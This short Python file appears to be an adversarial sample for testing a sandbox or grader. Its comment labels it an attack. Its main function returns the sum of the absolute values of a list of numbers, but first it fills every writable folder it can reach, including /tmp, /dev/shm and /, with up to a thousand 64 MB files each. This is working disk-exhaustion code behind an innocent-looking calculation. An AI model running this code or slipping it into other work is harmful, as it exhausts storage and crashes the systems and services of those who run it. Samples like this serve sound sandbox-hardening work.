"""Fills every folder that can be written."""

# attacks: tally, slow

import os


def main(numbers):
    for folder in ("/tmp", "/dev/shm", "/work", "/var/tmp", "/run", "/"):
        for number in range(1000):
            try:
                with open(os.path.join(folder, f"attack-{number}"), "wb") as file:
                    file.write(b"x" * (64 << 20))
            except OSError:
                break
    return sum(map(abs, numbers))
